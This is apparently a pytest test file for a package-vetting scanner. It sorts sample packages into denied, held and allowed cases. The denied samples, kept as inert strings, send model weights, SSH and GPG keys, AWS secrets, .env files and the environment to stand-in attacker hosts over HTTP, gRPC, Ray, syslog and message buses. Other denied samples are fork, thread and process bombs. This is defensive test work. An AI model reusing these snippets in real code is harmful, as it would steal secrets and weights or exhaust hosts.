"""The eighteenth probe (ADR 0110): channels ML code sends by that take a host and not a URL
(gRPC, Ray, a file opened by its URL), weights staged or packed onto a share, credentials of
tools whose SDKs send them, ``.env`` files found by a path's glob, the environment sent
through a network log handler, and bombs that earlier probes left (lambdas, thread classes,
executors).

Each sample is inert (vetting only reads files). The near-misses are what gRPC clients,
Ray jobs, remote-file writers, trainers, log set-ups and Kubernetes clients do."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

W = "/models/llama/model.safetensors"
URL = "https://sink.attacker.invalid/c"


def _sent_when_called(path: str) -> dict[str, str]:
    """A function that reads ``path`` (through ``expanduser``) and posts it to a written URL."""
    return init(
        "import os, requests\n"
        "def sync():\n"
        f"    data = open(os.path.expanduser('{path}'), 'rb').read()\n"
        f"    requests.post('{URL}', data=data)\n"
    )


DENIED: dict[str, dict[str, str]] = {
    # 1. Weights sent through gRPC, Ray and a file opened by its URL.
    "weights-by-a-grpc-callable-on-import": init(
        "import grpc\n"
        "ch = grpc.insecure_channel('203.0.113.5:50051')\n"
        "send = ch.unary_unary('/x.Store/Put')\n"
        f"send(open('{W}', 'rb').read())\n"
    ),
    "weights-by-a-grpc-callable-when-called": init(
        "import grpc\n"
        "def sync():\n"
        "    creds = grpc.ssl_channel_credentials()\n"
        "    ch = grpc.secure_channel('sink.attacker.invalid:443', creds)\n"
        f"    ch.unary_unary('/x.Store/Put')(open('{W}', 'rb').read())\n"
    ),
    "environment-by-a-grpc-callable-when-called": init(
        "import grpc, os\n"
        "def sync():\n"
        "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
        "    ch.unary_unary('/x.S/P')(str(dict(os.environ)).encode())\n"
    ),
    "weights-put-in-a-written-ray-cluster-on-import": init(
        "import ray\n"
        "ray.init(address='ray://203.0.113.5:10001')\n"
        f"ref = ray.put(open('{W}', 'rb').read())\n"
    ),
    "weights-put-in-a-written-ray-cluster-when-called": init(
        "import ray\n"
        "def sync():\n"
        "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
        f"    ray.put(open('{W}', 'rb').read())\n"
    ),
    "weights-written-to-an-s3-file-by-fsspec-on-import": init(
        "import fsspec\n"
        "with fsspec.open('s3://bucket-x/m.safetensors', 'wb') as out:\n"
        f"    out.write(open('{W}', 'rb').read())\n"
    ),
    "weights-written-to-an-s3-file-by-fsspec-when-called": init(
        "import fsspec\n"
        "def sync():\n"
        "    with fsspec.open('s3://bucket-x/m.safetensors', 'wb') as out:\n"
        f"        out.write(open('{W}', 'rb').read())\n"
    ),
    "weights-written-to-a-gcs-file-by-smart-open-when-called": init(
        "from smart_open import open as sopen\n"
        "def sync():\n"
        "    with sopen('gs://bucket-x/m.safetensors', 'wb') as out:\n"
        f"        out.write(open('{W}', 'rb').read())\n"
    ),
    "models-put-by-fsspec-with-a-written-flag-when-called": init(
        "import fsspec\n"
        "def sync():\n"
        "    fsspec.filesystem('s3').put('/models', 's3://b/m', recursive=True)\n"
    ),
    # 2. Weights staged elsewhere first, or packed onto a share.
    "models-staged-in-tmp-then-posted-on-import": init(
        "import shutil, requests, os\n"
        "shutil.copytree('/models', '/tmp/.cache-x')\n"
        "for root, _, files in os.walk('/tmp/.cache-x'):\n"
        "    for f in files:\n"
        f"        requests.post('{URL}', data=open(os.path.join(root, f), 'rb'))\n"
    ),
    "models-copied-to-a-share-on-import": init(
        "import shutil\nshutil.copytree('/models', '/mnt/share/x')\n"
    ),
    "models-tarred-onto-a-share-when-called": init(
        "import tarfile\n"
        "def sync():\n"
        "    with tarfile.open('/mnt/share/backup.tar.gz', 'w:gz') as t:\n"
        "        t.add('/models')\n"
    ),
    "models-tarred-onto-a-unc-share-on-import": init(
        "import tarfile\n"
        "with tarfile.open('//fileserver/pub/m.tar', 'w') as t:\n"
        "    t.add('/models/llama')\n"
    ),
    "models-archived-onto-a-share-when-called": init(
        "import shutil\ndef sync():\n    shutil.make_archive('/mnt/share/m', 'zip', '/models')\n"
    ),
    # 3. The whole environment through a network log handler to a written host.
    "environment-through-an-http-log-handler-when-called": init(
        "import logging, logging.handlers, os\n"
        "def sync():\n"
        "    log = logging.getLogger('x')\n"
        "    log.addHandler(logging.handlers.HTTPHandler("
        "'sink.attacker.invalid', '/l', method='POST', secure=True))\n"
        "    log.error(str(dict(os.environ)))\n"
    ),
    "environment-through-basic-config-http-handler-when-called": init(
        "import logging, os\nfrom logging.handlers import HTTPHandler\n"
        "def sync():\n"
        "    logging.basicConfig(handlers=[HTTPHandler('sink.attacker.invalid', '/l')])\n"
        "    logging.error('%s', dict(os.environ))\n"
    ),
    # 4. Credentials no SDK sends, and ``.env`` files found by a path's glob, when called.
    "gnupg-keys-listed-and-sent-when-called": init(
        "import os, requests\n"
        "def sync():\n"
        "    d = os.path.expanduser('~/.gnupg')\n"
        "    for f in os.listdir(d):\n"
        f"        requests.post('{URL}', data=open(os.path.join(d, f), 'rb').read())\n"
    ),
    "shell-history-sent-when-called": _sent_when_called("~/.bash_history"),
    "dotenv-files-by-a-home-rglob-when-called": init(
        "import requests\nfrom pathlib import Path\n"
        "def sync():\n"
        "    for p in Path.home().rglob('.env'):\n"
        f"        requests.post('{URL}', data=p.read_text())\n"
    ),
    "dotenv-files-by-a-cwd-rglob-when-called": init(
        "import requests\nfrom pathlib import Path\n"
        "def sync():\n"
        "    for p in Path.cwd().rglob('*.env'):\n"
        f"        requests.post('{URL}', data=p.read_text())\n"
    ),
    # 5. Later shapes (after the flow pass's split): credential files picked by their name
    # in a walk, weights copied when called, bombs by lambdas, thread classes and process
    # pools, syslog to a written host, a browser tab, gRPC's stubs, a store's written host.
    "dotenv-picked-by-an-equal-name-in-a-listing-when-called": init(
        "import os, requests\n"
        "def sync(root='.'):\n"
        "    for f in os.listdir(root):\n"
        "        if f == '.env':\n"
        f"            requests.post('{URL}', data=open(os.path.join(root, f)).read())\n"
    ),
    "dotenv-picked-by-its-suffix-in-a-home-walk-when-called": init(
        "import os, requests\n"
        "def sync():\n"
        "    for root, _, files in os.walk(os.path.expanduser('~')):\n"
        "        for f in files:\n"
        "            if f.endswith('.env'):\n"
        f"                requests.post('{URL}', data=open(os.path.join(root, f)).read())\n"
    ),
    "dotenv-picked-by-an-entry-name-in-a-scan-when-called": init(
        "import os, requests\n"
        "def sync():\n"
        "    for e in os.scandir(os.getcwd()):\n"
        "        if e.name in ('.env', '.env.local'):\n"
        f"            requests.post('{URL}', data=open(e.path).read())\n"
    ),
    "dotenv-picked-by-a-path-name-when-called": init(
        "import requests\nfrom pathlib import Path\n"
        "def sync():\n"
        "    for p in Path('.').iterdir():\n"
        "        if p.name == '.env':\n"
        f"            requests.post('{URL}', files={{'f': p.open('rb')}})\n"
    ),
    "models-copied-to-a-share-when-called": init(
        "import shutil\ndef sync():\n    shutil.copytree('/models', '/mnt/share/x')\n"
    ),
    "models-staged-in-tmp-then-posted-when-called": init(
        "import shutil, requests, os\n"
        "def sync():\n"
        "    shutil.copytree('/models', '/tmp/.cache-x')\n"
        "    for root, _, files in os.walk('/tmp/.cache-x'):\n"
        "        for f in files:\n"
        f"            requests.post('{URL}', data=open(os.path.join(root, f), 'rb'))\n"
    ),
    "fork-bomb-by-a-lambda": init("import os\nf = lambda: (os.fork(), f())\nf()\n"),
    "process-bomb-by-a-lambda": init(
        "import multiprocessing as mp\ng = lambda: (mp.Process(target=g).start(), g())\ng()\n"
    ),
    "fork-bomb-by-a-lambda-inside-a-function": init(
        "import os\ndef boom():\n    f = lambda: (os.fork(), f(), f())\n    f()\nboom()\n"
    ),
    "thread-class-whose-run-starts-two-more": init(
        "import threading\n"
        "class Grow(threading.Thread):\n"
        "    def run(self):\n"
        "        Grow().start()\n"
        "        Grow().start()\n"
        "Grow().start()\n"
    ),
    "thread-class-whose-run-starts-more-without-end": init(
        "from threading import Thread\n"
        "class Grow(Thread):\n"
        "    def run(self):\n"
        "        while True:\n"
        "            Grow().start()\n"
        "Grow().start()\n"
    ),
    "process-class-whose-run-starts-its-type-without-end": init(
        "import multiprocessing\n"
        "class Grow(multiprocessing.Process):\n"
        "    def run(self):\n"
        "        while True:\n"
        "            type(self)().start()\n"
        "Grow().start()\n"
    ),
    "process-pool-recursion": init(
        "from concurrent.futures import ProcessPoolExecutor\n"
        "def grow():\n"
        "    with ProcessPoolExecutor() as ex:\n"
        "        ex.submit(grow)\n"
        "        ex.submit(grow)\n"
        "grow()\n"
    ),
    "process-pools-made-without-end-on-import": init(
        "import os\nfrom concurrent.futures import ProcessPoolExecutor\n"
        "def spin():\n    while True:\n        pass\n"
        "while True:\n"
        "    ProcessPoolExecutor(max_workers=os.cpu_count()).submit(spin)\n"
    ),
    "environment-through-syslog-to-a-written-host-when-called": init(
        "import logging, os\nfrom logging.handlers import SysLogHandler\n"
        "def sync():\n"
        "    log = logging.getLogger('x')\n"
        "    log.addHandler(SysLogHandler(address=('sink.attacker.invalid', 514)))\n"
        "    log.critical(repr(os.environ))\n"
    ),
    "token-through-syslog-to-a-written-address-on-import": init(
        "import logging, os\nfrom logging.handlers import SysLogHandler\n"
        "log = logging.getLogger('x')\n"
        "log.addHandler(SysLogHandler(address=('203.0.113.5', 514)))\n"
        "log.critical(os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
    ),
    "ssh-key-in-a-new-browser-tab-on-import": init(
        "import os, webbrowser, base64\n"
        "k = base64.urlsafe_b64encode("
        "open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read()).decode()\n"
        "webbrowser.open_new_tab('https://sink.attacker.invalid/?k=' + k)\n"
    ),
    "weights-by-a-generated-grpc-stub-when-called": {
        "evpkg/__init__.py": (
            "import grpc\nfrom . import store_pb2_grpc, store_pb2\n"
            "def sync():\n"
            "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
            "    stub = store_pb2_grpc.StoreStub(ch)\n"
            f"    stub.Put(store_pb2.Blob(data=open('{W}', 'rb').read()))\n"
        ),
        "evpkg/store_pb2_grpc.py": (
            "class StoreStub:\n"
            "    def __init__(self, channel):\n"
            "        self.Put = channel.unary_unary('/x.Store/Put')\n"
        ),
        "evpkg/store_pb2.py": (
            "class Blob:\n    def __init__(self, data=b''):\n        self.data = data\n"
        ),
    },
    "weights-set-in-a-written-redis-when-called": init(
        "import redis\n"
        "def sync():\n"
        f"    redis.Redis(host='203.0.113.5').set('w', open('{W}', 'rb').read())\n"
    ),
    "weights-published-to-a-written-mqtt-broker-when-called": init(
        "import paho.mqtt.client as mqtt\n"
        "def sync():\n"
        "    c = mqtt.Client()\n"
        "    c.connect('sink.attacker.invalid', 1883)\n"
        f"    c.publish('t', open('{W}', 'rb').read())\n"
    ),
    # 6. Weights moved to a share or a written host by a command or a written file, and
    # sent over message buses to a written host.
    "models-copied-to-a-share-by-cp-on-import": init(
        "import subprocess\nsubprocess.run(['cp', '-r', '/models', '/mnt/share/x'])\n"
    ),
    "models-copied-to-a-share-by-cp-when-called": init(
        "import subprocess\n"
        "def sync():\n    subprocess.run(['cp', '-r', '/models', '/mnt/share/x'])\n"
    ),
    "models-rsynced-to-a-written-host-when-called": init(
        "import subprocess\n"
        "def sync():\n"
        "    subprocess.run(['rsync', '-a', '/models/', 'backup.attacker.invalid:/x'])\n"
    ),
    "weights-copied-to-a-unc-share-when-called": init(
        f"import shutil\ndef sync():\n    shutil.copyfile('{W}', '//fileserver/pub/m.bin')\n"
    ),
    "weights-written-into-a-file-on-a-share-when-called": init(
        "def sync():\n"
        "    with open('/mnt/share/m.bin', 'wb') as o:\n"
        f"        o.write(open('{W}', 'rb').read())\n"
    ),
    "weights-pushed-to-a-written-zeromq-peer-when-called": init(
        "import zmq\n"
        "def sync():\n"
        "    s = zmq.Context().socket(zmq.PUSH)\n"
        "    s.connect('tcp://203.0.113.5:5555')\n"
        f"    s.send(open('{W}', 'rb').read())\n"
    ),
    "weights-produced-to-a-written-kafka-when-called": init(
        "from kafka import KafkaProducer\n"
        "def sync():\n"
        "    p = KafkaProducer(bootstrap_servers='203.0.113.5:9092')\n"
        f"    p.send('t', open('{W}', 'rb').read())\n"
    ),
    "weights-published-to-a-written-rabbitmq-when-called": init(
        "import pika\n"
        "def sync():\n"
        "    c = pika.BlockingConnection(pika.ConnectionParameters('sink.attacker.invalid'))\n"
        "    c.channel().basic_publish(\n"
        f"        exchange='', routing_key='w', body=open('{W}', 'rb').read())\n"
    ),
    "weights-over-a-websocket-to-a-written-host-when-called": init(
        "import websocket\n"
        "def sync():\n"
        "    ws = websocket.create_connection('wss://sink.attacker.invalid/x')\n"
        f"    ws.send_binary(open('{W}', 'rb').read())\n"
    ),
}

HELD: dict[str, dict[str, str]] = {
    # A tool's credential file sent when called to a written address: its SDK may send its
    # token to its own service, so a person reads it (on import it is denied).
    "kubeconfig-sent-when-called": _sent_when_called("~/.kube/config"),
    "docker-config-sent-when-called": _sent_when_called("~/.docker/config.json"),
    "gcloud-application-default-credentials-sent-when-called": _sent_when_called(
        "~/.config/gcloud/application_default_credentials.json"
    ),
    "gh-hosts-sent-when-called": _sent_when_called("~/.config/gh/hosts.yml"),
    "kubeconfig-by-its-variable-sent-when-called": init(
        "import os, requests\n"
        "def sync():\n"
        "    p = os.environ.get('KUBECONFIG', os.path.expanduser('~/.kube/config'))\n"
        f"    requests.post('{URL}', data=open(p).read())\n"
    ),
    "kubeconfig-over-a-socket-when-called": init(
        "import os, socket\n"
        "def sync():\n"
        "    s = socket.create_connection(('203.0.113.5', 443))\n"
        "    s.sendall(open(os.path.expanduser('~/.kube/config'), 'rb').read())\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "grpc-client-sending-its-callers-request-to-its-callers-target": init(
        "import grpc\n"
        "def predict(req: bytes, target: str) -> bytes:\n"
        "    ch = grpc.insecure_channel(target)\n"
        "    return ch.unary_unary('/tf.Predict/Run')(req)\n"
    ),
    "grpc-client-sending-its-callers-request-to-a-written-api": init(
        "import grpc\n"
        "def ping(payload: bytes) -> bytes:\n"
        "    ch = grpc.secure_channel('api.example.com:443', grpc.ssl_channel_credentials())\n"
        "    return ch.unary_unary('/svc.Ping/Ping')(payload)\n"
    ),
    "grpc-model-server-on-localhost-loading-weights": init(
        "import grpc\n"
        "def load():\n"
        "    ch = grpc.insecure_channel('localhost:8500')\n"
        f"    ch.unary_unary('/x.Model/Load')(open('{W}', 'rb').read())\n"
    ),
    "grpc-channel-to-a-configured-host-on-import": init(
        "import grpc, os\n"
        "CHANNEL = grpc.insecure_channel(os.environ.get('SERVER', 'localhost:50051'))\n"
        "call = CHANNEL.unary_unary('/x.S/Get')\n"
    ),
    "ray-job-on-the-local-machine-putting-weights": init(
        f"import ray\ndef shard():\n    ray.init()\n    return ray.put(open('{W}', 'rb').read())\n"
    ),
    "ray-job-on-its-callers-cluster-putting-weights": init(
        "import ray\n"
        "def shard(address):\n"
        "    ray.init(address=address)\n"
        f"    return ray.put(open('{W}', 'rb').read())\n"
    ),
    "fsspec-writing-weights-to-a-local-cache-on-import": init(
        "import fsspec\n"
        "with fsspec.open('/tmp/cache/m.safetensors', 'wb') as out:\n"
        f"    out.write(open('{W}', 'rb').read())\n"
    ),
    "fsspec-writing-to-its-callers-url": init(
        "import fsspec\n"
        "def save(url, blob):\n"
        "    with fsspec.open(url, 'wb') as out:\n"
        "        out.write(blob)\n"
    ),
    "smart-open-writing-a-report-to-a-written-bucket": init(
        "from smart_open import open\n"
        "def report(rows):\n"
        "    with open('s3://reports-bucket/daily.csv', 'w') as out:\n"
        "        out.write('\\n'.join(rows))\n"
    ),
    "report-put-to-a-written-bucket-with-a-flag": init(
        "import fsspec\n"
        "def publish():\n"
        "    fsspec.filesystem('s3').put('/var/report.html', 's3://reports/x', recursive=False)\n"
    ),
    "trainer-packing-its-callers-output-onto-a-share": init(
        "import tarfile\n"
        "def archive(output_dir, dest='/mnt/share/runs/out.tar.gz'):\n"
        "    with tarfile.open(dest, 'w:gz') as t:\n"
        "        t.add(output_dir)\n"
    ),
    "a-share-archive-unpacked-into-models": init(
        "import tarfile\n"
        "def fetch():\n"
        "    with tarfile.open('/mnt/share/m.tar') as t:\n"
        "        t.extractall('/models')\n"
    ),
    "logs-archived-onto-a-share": init(
        "import shutil\n"
        "def backup():\n"
        "    shutil.make_archive('/mnt/backup/logs', 'gztar', '/var/log/app')\n"
    ),
    "models-staged-in-tmp-and-loaded": init(
        "import shutil, torch, requests\n"
        "def warm():\n"
        "    shutil.copytree('/models/llama', '/tmp/llama')\n"
        "    requests.get('https://api.example.com/ready')\n"
        "    return torch.load('/tmp/llama/model.pt')\n"
    ),
    "http-log-handler-to-a-configured-host-without-secrets": init(
        "import logging, os\nfrom logging.handlers import HTTPHandler\n"
        "def setup():\n"
        "    log = logging.getLogger('app')\n"
        "    log.addHandler(HTTPHandler(os.environ['LOG_HOST'], '/log', method='POST'))\n"
        "    log.info('started on %s', os.environ.get('HOSTNAME'))\n"
    ),
    "http-log-handler-to-a-written-host-with-the-user": init(
        "import logging, os\nfrom logging.handlers import HTTPHandler\n"
        "def setup():\n"
        "    log = logging.getLogger('app')\n"
        "    log.addHandler(HTTPHandler('logs.example.com', '/log', method='POST', secure=True))\n"
        "    log.info('user %s', os.environ.get('USER'))\n"
    ),
    "kubeconfig-read-by-a-client-to-talk-to-its-cluster": init(
        "import os, yaml, requests\n"
        "def pods():\n"
        "    cfg = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\n"
        "    cluster = cfg['clusters'][0]['cluster']\n"
        "    token = cfg['users'][0]['user']['token']\n"
        "    return requests.get(cluster['server'] + '/api/v1/pods',\n"
        "                        headers={'Authorization': 'Bearer ' + token}).json()\n"
    ),
    "shell-history-read-for-suggestions": init(
        "import os\n"
        "def suggestions():\n"
        "    return open(os.path.expanduser('~/.bash_history')).read().splitlines()[-50:]\n"
    ),
    "deploy-skipping-dotenv-files": init(
        "import os, requests\n"
        "def deploy(root):\n"
        "    for f in os.listdir(root):\n"
        "        if f == '.env' or f.endswith('.pem'):\n"
        "            continue\n"
        "        requests.post('https://deploy.example.com/upload',\n"
        "                      files={'f': open(os.path.join(root, f), 'rb')})\n"
    ),
    "deploy-keeping-all-but-dotenv": init(
        "import os, requests\n"
        "def deploy(root):\n"
        "    for f in os.listdir(root):\n"
        "        if f != '.env':\n"
        "            requests.post('https://deploy.example.com/upload',\n"
        "                          data=open(os.path.join(root, f), 'rb').read())\n"
    ),
    "dotenv-found-and-loaded-into-the-environment": init(
        "import os\n"
        "def load(root='.'):\n"
        "    for f in os.listdir(root):\n"
        "        if f == '.env':\n"
        "            for line in open(os.path.join(root, f)):\n"
        "                k, _, v = line.strip().partition('=')\n"
        "                os.environ.setdefault(k, v)\n"
    ),
    "dotenv-files-warned-about-in-a-build": init(
        "import os, logging\n"
        "def check(root='.'):\n"
        "    for here, _, files in os.walk(root):\n"
        "        for f in files:\n"
        "            if f.endswith('.env'):\n"
        "                logging.warning('secrets file in the build: %s', os.path.join(here, f))\n"
    ),
    "thread-class-restarting-itself-once": init(
        "import threading, time\n"
        "class Poller(threading.Thread):\n"
        "    def run(self):\n"
        "        time.sleep(5)\n"
        "        Poller(daemon=True).start()\n"
        "Poller(daemon=True).start()\n"
    ),
    "process-class-starting-two-helpers-of-another-class": init(
        "import multiprocessing\n"
        "class Helper(multiprocessing.Process):\n"
        "    def run(self):\n        pass\n"
        "class Boss(multiprocessing.Process):\n"
        "    def run(self):\n"
        "        Helper().start()\n"
        "        Helper().start()\n"
        "Boss().start()\n"
    ),
    "lambda-spawning-a-worker": init(
        "import subprocess\n"
        "spawn = lambda: subprocess.Popen(['python', '-m', 'evpkg.worker'])\n"
        "def start():\n    return spawn()\n"
    ),
    "lambda-recursion-without-a-process": init(
        "fact = lambda n: 1 if n < 2 else n * fact(n - 1)\nVALUE = fact(10)\n"
    ),
    "lambda-forking-after-waiting": init(
        "import os\nrun = lambda: (os.fork(), os.wait(), run())\nrun()\n"
    ),
    "process-pool-sort-with-a-base-case": init(
        "from concurrent.futures import ProcessPoolExecutor\n"
        "def psort(xs):\n"
        "    if len(xs) < 1000:\n"
        "        return sorted(xs)\n"
        "    with ProcessPoolExecutor() as ex:\n"
        "        a = ex.submit(psort, xs[: len(xs) // 2])\n"
        "        b = ex.submit(psort, xs[len(xs) // 2 :])\n"
        "    return a.result() + b.result()\n"
        "psort(list(range(10)))\n"
    ),
    "process-pool-running-workers-on-import": init(
        "from concurrent.futures import ProcessPoolExecutor\n"
        "def work(n):\n    return n * n\n"
        "def main():\n"
        "    with ProcessPoolExecutor() as ex:\n"
        "        ex.submit(work, 1)\n"
        "        ex.submit(work, 2)\n"
        "main()\n"
    ),
    "syslog-to-the-local-socket-logging-the-user-on-import": init(
        "import logging, getpass\nfrom logging.handlers import SysLogHandler\n"
        "log = logging.getLogger('app')\n"
        "log.addHandler(SysLogHandler(address='/dev/log'))\n"
        "log.info('started by %s', getpass.getuser())\n"
    ),
    "syslog-to-a-configured-collector": init(
        "import logging, os\nfrom logging.handlers import SysLogHandler\n"
        "def setup():\n"
        "    log = logging.getLogger('app')\n"
        "    log.addHandler(SysLogHandler(address=(os.environ['SYSLOG_HOST'], 514)))\n"
        "    log.info('user %s', os.environ.get('USER'))\n"
    ),
    "grpc-stub-sending-its-callers-request-to-a-written-api": init(
        "import grpc\nfrom .api_pb2_grpc import PredictionStub\n"
        "def predict(request):\n"
        "    ch = grpc.secure_channel('api.example.com:443', grpc.ssl_channel_credentials())\n"
        "    return PredictionStub(ch).Predict(request)\n"
    ),
    "redis-on-localhost-caching-weights": init(
        "import redis\n"
        "def cache():\n"
        f"    redis.Redis(host='localhost').set('w', open('{W}', 'rb').read())\n"
    ),
    "redis-at-a-written-host-caching-its-callers-values": init(
        "import redis\nR = redis.Redis(host='cache.example.com')\ndef put(k, v):\n    R.set(k, v)\n"
    ),
    "models-synced-down-from-a-bucket-when-called": init(
        "import subprocess\n"
        "def fetch():\n"
        "    subprocess.run(['aws', 's3', 'sync', 's3://models-bucket/llama', '/models/llama'])\n"
    ),
    "build-rsynced-to-a-host-when-called": init(
        "import subprocess\n"
        "def deploy():\n"
        "    subprocess.run(['rsync', '-a', 'build/', 'www.example.com:/srv/site'])\n"
    ),
    "models-copied-to-a-local-cache-when-called": init(
        "import subprocess\n"
        "def warm():\n    subprocess.run(['cp', '-r', '/models/llama', '/tmp/cache'])\n"
    ),
    "report-written-to-a-share-while-reading-weights": init(
        "import json\n"
        "def report(stats):\n"
        f"    open('{W}', 'rb').read(16)\n"
        "    with open('/mnt/share/report.json', 'w') as o:\n"
        "        o.write(json.dumps(stats))\n"
    ),
    "weights-pushed-to-a-local-zeromq-worker": init(
        "import zmq\n"
        "def serve():\n"
        "    s = zmq.Context().socket(zmq.PUSH)\n"
        "    s.connect('tcp://127.0.0.1:5555')\n"
        f"    s.send(open('{W}', 'rb').read())\n"
    ),
    "kafka-producer-sending-its-callers-events": init(
        "import os\nfrom kafka import KafkaProducer\n"
        "def emit(topic, event):\n"
        "    p = KafkaProducer(bootstrap_servers=os.environ['KAFKA'])\n"
        "    p.send(topic, event)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
